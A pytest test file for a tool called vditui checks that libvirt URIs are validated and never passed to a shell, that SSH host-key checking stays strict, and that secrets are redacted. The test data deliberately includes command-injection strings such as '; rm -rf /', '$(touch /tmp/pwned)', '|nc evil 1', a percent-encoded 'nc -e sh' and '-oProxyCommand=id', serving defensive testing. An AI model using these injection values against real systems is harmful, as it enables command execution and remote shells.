"""A libvirt URI typed by the operator (or built from a template and the platform's host data) is
parsed and validated, never handed to a shell, and vditui never makes libvirt's SSH transport
accept unknown host keys on its own.

Why the SSH part holds: :func:`prepare` adds ``no_tty=1`` to ssh URIs, which makes libvirt run
``ssh -T -o BatchMode=yes``; in batch mode ssh treats an unknown host key as a failure instead of
asking (unless the operator's own ssh_config says otherwise). For libssh/libssh2, libvirt asks the
auth callback whether to accept an unknown key, and vditui's callback refuses every request.
vditui itself never adds ``no_verify`` or ``known_hosts_verify``.
"""

from __future__ import annotations

import ast
import asyncio
import inspect
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import libvirt
import pytest

import vditui
from vditui.config import resolve as config_resolve
from vditui.core import session as session_mod
from vditui.core import virt
from vditui.core.models import ConnState, VirtErrorKind
from vditui.core.uris import (
    DEFAULT_TEMPLATES,
    UriError,
    alternatives,
    candidates,
    parse,
    prepare,
    redact_uri,
    render,
)

PACKAGE = Path(vditui.__file__).resolve().parent
SSH_TRANSPORTS = ("ssh", "libssh", "libssh2")


def query_of(uri: str) -> dict[str, str]:
    return dict(parse_qsl(urlsplit(uri).query, keep_blank_values=True))


# --------------------------------------------------------------------------- rejected input

SHELL = [
    "qemu+ssh://root@10.0.0.5/system;reboot",
    "qemu+ssh://root@10.0.0.5/system; rm -rf /",
    "qemu+tcp://10.0.0.5/system?x=$(touch /tmp/pwned)",
    "qemu+tcp://$(id).example/system",
    "qemu+ssh://`id`@10.0.0.5/system",
    "qemu+tcp://10.0.0.5/system|nc evil 1",
    "qemu+tcp://10.0.0.5/system&&reboot",
    "qemu+tcp://10.0.0.5/system&reboot",
    "qemu+tcp://10.0.0.5 /system",
    "qemu+tcp://10.0.0.5/sys tem",
    "qemu+ssh://root@10.0.0.5/system?keyfile='/tmp/k'",
    'qemu+ssh://root@10.0.0.5/system?keyfile="/tmp/k"',
    "qemu+tcp://10.0.0.5/system>out",
    "qemu+tcp://10.0.0.5/system<in",
    "qemu+tcp://10.0.0.5\\system",
]


@pytest.mark.parametrize("uri", SHELL)
def test_shell_metacharacters_are_rejected(uri):
    with pytest.raises(UriError, match=r"contains a space, quote or shell character \("):
        parse(uri)
    with pytest.raises(UriError):
        prepare(uri)


@pytest.mark.parametrize("uri", ["qemu+tcp://10.0.0.5/system?a=1&&reboot",
                                 "qemu+tcp://10.0.0.5/system?&reboot",
                                 "qemu+tcp://10.0.0.5/system?a=1&"])
def test_ampersand_only_separates_query_parameters(uri):
    with pytest.raises(UriError, match="empty query parameter"):
        parse(uri)
    assert parse("qemu+ssh://h/system?keyfile=/k&no_verify=1").query == (
        ("keyfile", "/k"), ("no_verify", "1"))


CONTROL = ["\n", "\r", "\t", "\x00", "\x07", "\x1b[31m", "\x7f", "\x85", "\u202e", "\u2028"]


@pytest.mark.parametrize("char", CONTROL, ids=[repr(c) for c in CONTROL])
def test_control_characters_are_rejected(char):
    for uri in (f"qemu+tcp://10.0.0.5/system{char}id", f"qemu+tcp://10.0.0.5{char}/system",
                f"qemu+ssh://ro{char}ot@10.0.0.5/system"):
        with pytest.raises(UriError, match="control character") as err:
            parse(uri)
        # The message shows the character escaped: one line, nothing for a terminal to act on.
        assert char not in str(err.value) and "\n" not in str(err.value)


def test_a_newline_typed_at_the_end_is_not_a_second_command():
    # Surrounding whitespace is trimmed (a pasted URI), but an inner newline is rejected.
    assert parse("  qemu+tcp://10.0.0.5/system\n").raw == "qemu+tcp://10.0.0.5/system"
    with pytest.raises(UriError, match="control character"):
        parse("qemu+tcp://10.0.0.5/system\nreboot")


@pytest.mark.parametrize("uri,part", [
    ("qemu+ssh://root@10.0.0.5/system?netcat=%3Breboot", "query parameter 'netcat'"),
    ("qemu+ssh://root@10.0.0.5/system?socket=%24(id)", "query parameter 'socket'"),
    ("qemu+ssh://root@10.0.0.5/system?keyfile=%60id%60", "query parameter 'keyfile'"),
    ("qemu+ssh://root@10.0.0.5/system?netcat=nc%20-e%20sh", "query parameter 'netcat'"),
    ("qemu+ssh://root@10.0.0.5/system?command=%7Csh", "query parameter 'command'"),
    ("qemu+tcp://10.0.0.5/system?%00=1", "query parameter"),
    ("qemu+tcp://10.0.0.5/sys%0Atem", "path"),
    ("qemu+tcp://10.0.0.5/system%3Breboot", "path"),
    ("qemu+ssh://ro%3Bot@10.0.0.5/system", "user name"),
    ("qemu+ssh://root%0A@10.0.0.5/system", "user name"),
])
def test_percent_encoded_shell_and_control_characters_are_rejected(uri, part):
    # libvirt decodes these before use; checking only the raw text would let them through.
    with pytest.raises(UriError, match="percent-encoded") as err:
        parse(uri)
    assert part in str(err.value)


@pytest.mark.parametrize("uri", ["qemu+tcp://10.0.0.5/system#x", "qemu+tcp://10.0.0.5/system#",
                                 "qemu+ssh://root@10.0.0.5/system?no_tty=1#frag"])
def test_fragments_are_rejected(uri):
    with pytest.raises(UriError, match=r"fragment \('#\.\.\.'\) is not allowed"):
        parse(uri)


@pytest.mark.parametrize("transport", ["foo", "http", "telnet", "ssh2", "rsh"])
def test_unknown_transports_are_rejected(transport):
    with pytest.raises(UriError, match=f"unknown transport '{transport}' \\(known: tcp, tls, "
                                       "ssh, libssh, libssh2, unix, ext\\)"):
        parse(f"qemu+{transport}://10.0.0.5/system")


@pytest.mark.parametrize("uri,transport", [
    ("qemu+tcp:///system", "tcp"), ("qemu+tls:///system", "tls"), ("qemu+ssh:///system", "ssh"),
    ("qemu+ssh://root@/system", "ssh"), ("qemu+libssh:///system", "libssh"),
    ("qemu+libssh2://:22/system", "libssh2"),
])
def test_network_transports_need_a_host(uri, transport):
    with pytest.raises(UriError, match=f"transport {transport} needs a host"):
        parse(uri)


@pytest.mark.parametrize("uri,match", [
    ("", "empty URI"), ("   ", "empty URI"),
    ("10.0.0.5/system", "missing '://'"),
    ("qemu+tcp:10.0.0.5/system", "missing '://'"),
    ("q_emu+tcp://10.0.0.5/system", "bad scheme"),
    ("1qemu://10.0.0.5/system", "bad scheme"),
    ("qemu+tcp://-oProxyCommand=id/system", "bad host '-oproxycommand=id'"),
    ("qemu+ssh://root@-oProxyCommand=id/system", "bad host"),
    ("qemu+tcp://host_1/system", "bad host"),
    ("qemu+tcp://10.0.0.5:99999/system", "out of range"),
    ("qemu+tcp://10.0.0.5:port/system", "10.0.0.5:port"),
    ("qemu+tcp://[fe80::1/system", "Invalid IPv6 URL"),
])
def test_other_malformed_uris_say_what_is_wrong(uri, match):
    with pytest.raises(UriError, match=match.replace("(", r"\(").replace("+", r"\+")):
        parse(uri)


def test_a_password_in_the_uri_is_rejected_without_repeating_it():
    for uri in ("qemu+ssh://root:hunter2-secret@10.0.0.5/system",
                "qemu+tcp://admin:hunter2-secret@[fd00::5]:16509/system",
                "qemu+ssh://root:hunter2-secret;x@10.0.0.5/system"):
        with pytest.raises(UriError) as err:
            parse(uri)
        assert "hunter2" not in str(err.value) and "hunter2" not in repr(err.value)
        assert ":***@" in str(err.value)
    with pytest.raises(UriError, match="a password in the URI is not supported"):
        parse("qemu+ssh://root:x@10.0.0.5/system")


def test_non_strings_are_rejected():
    for value in (None, b"qemu+tcp://10.0.0.5/system", 42):
        with pytest.raises(UriError, match="empty URI"):
            parse(value)  # type: ignore[arg-type]


# --------------------------------------------------------------------------- what parses


def test_ipv6_hosts_ports_users_and_query_parse():
    u = parse("qemu+ssh://ops%2Badmin@[fd00::5]:2222/system?keyfile=/home/ops/.ssh/id&no_tty=1")
    assert (u.driver, u.transport, u.user, u.host, u.port, u.path) == (
        "qemu", "ssh", "ops+admin", "fd00::5", 2222, "/system")
    assert u.query == (("keyfile", "/home/ops/.ssh/id"), ("no_tty", "1"))
    assert u.param("keyfile") == "/home/ops/.ssh/id" and u.param("missing") is None
    assert u.is_remote

    v = parse("qemu+tcp://[::1]/system")
    assert (v.host, v.port, v.user) == ("::1", None, "")
    w = parse("QEMU+TLS://HV-01.Example.org:16514/system?pkipath=/etc/pki/vdi")
    assert (w.driver, w.transport, w.host, w.port) == ("qemu", "tls", "hv-01.example.org", 16514)
    assert w.param("pkipath") == "/etc/pki/vdi"
    x = parse("qemu+tcp://10.0.0.5")
    assert (x.host, x.path) == ("10.0.0.5", "/")
    for local in ("qemu:///system", "test:///default", "qemu+unix:///system?socket=/run/s"):
        loc = parse(local)
        assert loc.host == "" and not loc.is_remote
    assert parse("qemu+ext:///system?command=/usr/local/bin/tunnel").transport == "ext"


def test_display_masks_password_like_query_values():
    u = parse("qemu+tcp://10.0.0.5/system?passwd=abc&sasl_password=x&mode=legacy")
    assert u.display == "qemu+tcp://10.0.0.5/system?passwd=***&sasl_password=***&mode=legacy"
    assert "abc" not in u.display


def test_render_brackets_ipv6_and_checks_the_platforms_values():
    assert render("qemu+tcp://{ip}/system", "fd00::5") == "qemu+tcp://[fd00::5]/system"
    assert render("qemu+ssh://root@{ip}:2222/system", "::1") == "qemu+ssh://root@[::1]:2222/system"
    assert render("qemu+tcp://{ip}/system", "10.0.0.5") == "qemu+tcp://10.0.0.5/system"
    assert render("qemu+ssh://root@{name}.lab/system", "10.0.0.5", "hv-01") == \
        "qemu+ssh://root@hv-01.lab/system"
    parsed = parse(render("qemu+tcp://{ip}/system", "fd00::5"))
    assert parsed.host == "fd00::5"
    # A host record from the platform cannot add a path, query parameters or a second host.
    for ip in ("10.0.0.5/system?no_verify=1&x=", "10.0.0.5/x?command=/tmp/evil&",
               "evil.example@10.0.0.5", "10.0.0.5;id", "", "10.0.0.5 "):
        with pytest.raises(UriError, match="is not an IP address or host name"):
            render("qemu+ssh://root@{ip}/system", ip)
    with pytest.raises(UriError, match="the host's name 'hv 01'"):
        render("qemu+ssh://root@{name}/system", "10.0.0.5", "hv 01")
    # A name the template does not use is not checked.
    assert render("qemu+tcp://{ip}/system", "10.0.0.5", "hv 01") == "qemu+tcp://10.0.0.5/system"
    with pytest.raises(UriError, match=r"only \{ip\} and \{name\} can be substituted"):
        render("qemu+tcp://{host}/system", "10.0.0.5")


def test_candidates_put_the_override_first_and_render_every_template():
    got = candidates(DEFAULT_TEMPLATES, "fd00::5", "hv-01", ("qemu+tcp://10.9.9.9/system",))
    assert got == ["qemu+tcp://10.9.9.9/system", "qemu+tcp://[fd00::5]/system",
                   "qemu+ssh://root@[fd00::5]/system", "qemu+tls://[fd00::5]/system"]
    assert all(parse(u) for u in got)


def test_alternatives_never_carry_the_typed_query_over():
    alts = alternatives("qemu+ssh://ops@10.0.0.5/system?no_verify=1&keyfile=/k")
    assert alts == ["qemu+tcp://10.0.0.5/system", "qemu+tls://10.0.0.5/system"]
    assert alternatives("qemu+tcp://[fd00::5]/system") == [
        "qemu+ssh://root@[fd00::5]/system", "qemu+tls://[fd00::5]/system"]
    assert alternatives("not a uri") == [] and alternatives("qemu:///system") == []


# --------------------------------------------------------------------------- prepare


@pytest.mark.parametrize("transport", SSH_TRANSPORTS)
def test_prepare_adds_no_tty_to_ssh_and_never_no_verify(transport):
    for uri in (f"qemu+{transport}://root@10.0.0.5/system",
                f"qemu+{transport}://[fd00::5]:2222/system",
                f"qemu+{transport}://ops@hv-01.example.org/system?keyfile=/home/ops/.ssh/id"):
        out = prepare(uri)
        q = query_of(out)
        assert q.get("no_tty") == "1", out
        assert "no_verify" not in q and "known_hosts_verify" not in q, out
        assert parse(out).host == parse(uri).host and parse(out).port == parse(uri).port
        assert parse(out).user == parse(uri).user and parse(out).path == "/system"
    assert prepare(f"qemu+{transport}://root@10.0.0.5/system?keyfile=/k") == \
        f"qemu+{transport}://root@10.0.0.5/system?keyfile=/k&no_tty=1"
    assert prepare(f"qemu+{transport}://root@[fd00::5]/system") == \
        f"qemu+{transport}://root@[fd00::5]/system?no_tty=1"


@pytest.mark.parametrize("transport", SSH_TRANSPORTS)
def test_prepare_keeps_only_what_the_user_typed(transport):
    typed = f"qemu+{transport}://root@10.0.0.5/system?no_verify=1"
    assert query_of(prepare(typed)) == {"no_verify": "1", "no_tty": "1"}
    typed = f"qemu+{transport}://root@10.0.0.5/system?known_hosts_verify=auto"
    assert query_of(prepare(typed)) == {"known_hosts_verify": "auto", "no_tty": "1"}
    # An explicit no_tty is the operator's choice and stays as typed.
    typed = f"qemu+{transport}://root@10.0.0.5/system?no_tty=0"
    assert prepare(typed) == typed
    # Percent-encoded user names survive the rebuild (no double encoding).
    assert parse(prepare(f"qemu+{transport}://a%40b@10.0.0.5/system")).user == "a@b"


@pytest.mark.parametrize("uri", ["qemu+tcp://10.0.0.5/system", "qemu+tls://[fd00::5]/system",
                                 "qemu:///system", "test+tcp://127.0.0.1:16509/default",
                                 "qemu+tcp://10.0.0.5/system?no_verify=1"])
def test_prepare_leaves_other_transports_as_typed(uri):
    assert prepare(uri) == uri


def test_default_templates_accept_no_unknown_host_keys():
    for template in DEFAULT_TEMPLATES:
        out = prepare(render(template, "10.0.0.5"))
        q = query_of(out)
        assert "no_verify" not in q and "known_hosts_verify" not in q
        if parse(out).transport in SSH_TRANSPORTS:
            assert q["no_tty"] == "1"


# --------------------------------------------------------------------------- no shell anywhere


def _calls(tree: ast.AST) -> list[tuple[str, ast.Call]]:
    """Every call as (dotted name, node), e.g. ("subprocess.run", ...)."""
    out = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            parts, f = [], node.func
            while isinstance(f, ast.Attribute):
                parts.append(f.attr)
                f = f.value
            if isinstance(f, ast.Name):
                parts.append(f.id)
            out.append((".".join(reversed(parts)), node))
    return out


RUNS_PROGRAMS = ("subprocess.", "os.system", "os.popen", "os.exec", "os.spawn", "os.posix_spawn",
                 "pty.", "asyncio.create_subprocess", "pexpect.")
PROGRAM_MODULES = ("subprocess", "pty", "pexpect")


def _sources(*exclude: str) -> dict[Path, str]:
    return {p: p.read_text(encoding="utf-8") for p in sorted(PACKAGE.rglob("*.py"))
            if not any(p.relative_to(PACKAGE).as_posix().startswith(x) for x in exclude)}


def test_the_core_runs_no_program_and_no_shell():
    core = _sources()
    core = {p: t for p, t in core.items() if p.relative_to(PACKAGE).parts[0] == "core"}
    assert len(core) >= 8
    for path, text in core.items():
        for needle in ("subprocess", "os.system", "os.popen", "shell=True", "os.exec", "os.spawn",
                       "create_subprocess", "import pty", "pexpect"):
            assert needle not in text, f"{path.name} mentions {needle}"


def test_the_only_program_vditui_runs_is_password_command_without_a_shell():
    """Outside the lab (which starts libvirtd for tests and demos), the only place that runs a
    program is ``password_command``; it splits the command itself and passes a list, no shell."""
    found, imports = [], []
    for path, text in _sources("lab/").items():
        rel = path.relative_to(PACKAGE).as_posix()
        assert "shell=True" not in text, rel
        tree = ast.parse(text)
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                imports += [(rel, a.name) for a in node.names if a.name in PROGRAM_MODULES]
            elif isinstance(node, ast.ImportFrom) and node.module in PROGRAM_MODULES:
                imports.append((rel, node.module))
        found += [(rel, name, node) for name, node in _calls(tree)
                  if name.startswith(RUNS_PROGRAMS)]
    assert imports == [("config/resolve.py", "subprocess")]
    assert [(p, n) for p, n, _ in found] == [("config/resolve.py", "subprocess.run")]
    _, _, call = found[0]
    assert not any(k.arg == "shell" for k in call.keywords)
    assert isinstance(call.args[0], ast.Name) and call.args[0].id == "argv"
    src = inspect.getsource(config_resolve.run_password_command)
    assert "argv = shlex.split(command)" in src


def test_password_command_metacharacters_stay_literal():
    # Through a shell, this would print two lines and the user id; without one, echo gets the
    # words as they are.
    printed = config_resolve.run_password_command("echo 'a;b' $(id) `id` && |")
    assert printed == "a;b $(id) `id` && |"


def test_the_uri_reaches_libvirt_as_one_python_string(monkeypatch):
    seen: list[tuple[Any, ...]] = []

    def fake_open_auth(*args: Any) -> Any:
        seen.append(args)
        # A libvirtError takes its code from this thread's last libvirt error: one left by an
        # earlier test's real connection (the pool's threads are shared) would classify this.
        libvirt.virResetLastError()
        raise libvirt.libvirtError("Cannot recv data: Host key verification failed.: "
                                   "Connection reset by peer")

    monkeypatch.setattr(virt, "ensure_runtime", lambda: None)
    monkeypatch.setattr(virt.libvirt, "openAuth", fake_open_auth)
    typed = "qemu+ssh://root@[fd00::5]:2222/system?keyfile=/home/ops/.ssh/id"
    result = asyncio.run(virt.try_uri(typed, timeout=5))
    assert not result.ok and result.error is not None
    assert result.error.kind is VirtErrorKind.SSH_HOST_KEY  # a failure, not a prompt

    (args,) = seen
    uri, auth, flags = args
    assert type(uri) is str and uri == prepare(typed)
    assert query_of(uri) == {"keyfile": "/home/ops/.ssh/id", "no_tty": "1"}
    assert flags == 0
    cred_types, callback, _opaque = auth
    assert libvirt.VIR_CRED_ECHOPROMPT in cred_types and libvirt.VIR_CRED_PASSPHRASE in cred_types
    # libssh/libssh2 ask this callback whether to accept an unknown host key: always refused.
    assert callback([[libvirt.VIR_CRED_ECHOPROMPT, "Accept SSH host key?", "", "", None]],
                    None) == -1

    # An invalid typed URI never reaches libvirt at all.
    bad = asyncio.run(virt.try_uri("qemu+ssh://root@10.0.0.5/system;reboot", timeout=5))
    assert bad.error is not None and bad.error.kind is VirtErrorKind.INVALID_URI
    assert len(seen) == 1


def test_a_host_session_opens_the_prepared_uri(monkeypatch):
    seen: list[Any] = []

    def fake_open(uri: Any) -> Any:
        seen.append(uri)
        raise libvirt.libvirtError("Connection refused")

    monkeypatch.setattr(session_mod.virt, "open_connection", fake_open)

    async def run() -> session_mod.HostSession:
        s = session_mod.HostSession(
            "h1", "hv-01", ["qemu+ssh://root@10.0.0.5/system", "qemu+tcp://10.0.0.5/sys;id"],
            session_mod.SessionSettings(connect_timeout=2, min_backoff=60), lambda _s: None)
        s.start()
        for _ in range(200):
            if s.state is ConnState.FAILED:
                break
            await asyncio.sleep(0.01)
        await s.stop()
        return s

    s = asyncio.run(run())
    assert seen == ["qemu+ssh://root@10.0.0.5/system?no_tty=1"]
    assert all(type(u) is str for u in seen)
    bad = s.error  # the last URI tried: its error stands
    assert bad is not None and bad.uri == "qemu+tcp://10.0.0.5/sys;id"
    assert bad.kind is VirtErrorKind.INVALID_URI and "shell character" in bad.message


@pytest.mark.parametrize(("text", "shown"), [
    ("test+tcp://admin:s3cret@10.0.0.5/default", "test+tcp://admin:***@10.0.0.5/default"),
    ("qemu+tls://h/system?pkipath=/pki&passphrase=s3cret&no_verify=0",
     "qemu+tls://h/system?pkipath=/pki&passphrase=***&no_verify=0"),
    ("unreachable hv-1: libvirt unreachable at qemu+ssh://root@h/system?keyfile=/k&"
     "password=s3cret refused; retry test+tcp://u:s3cret@h2/x?token=s3cret",
     "unreachable hv-1: libvirt unreachable at qemu+ssh://root@h/system?keyfile=/k&"
     "password=*** refused; retry test+tcp://u:***@h2/x?token=***"),
    ('{"uri": "qemu+tcp://a:s3cret@h/system?api_key=s3cret"}',
     '{"uri": "qemu+tcp://a:***@h/system?api_key=***"}'),
    ("qemu+tcp://10.0.0.5/system", "qemu+tcp://10.0.0.5/system"),
    ("plain text with a = sign and user@host", "plain text with a = sign and user@host"),
])
def test_redact_uri_hides_every_secret_and_only_secrets(text: str, shown: str) -> None:
    assert redact_uri(text) == shown
    assert "s3cret" not in redact_uri(text)


def test_display_and_errors_use_the_same_redaction() -> None:
    u = parse("qemu+tcp://h/system?passphrase=s3cret&pkipath=/p")
    assert u.display == "qemu+tcp://h/system?passphrase=***&pkipath=/p"
    with pytest.raises(UriError) as exc:
        parse("test+tcp://admin:s3cret@h/default?token=t0ken")
    assert "s3cret" not in str(exc.value) and "t0ken" not in str(exc.value)
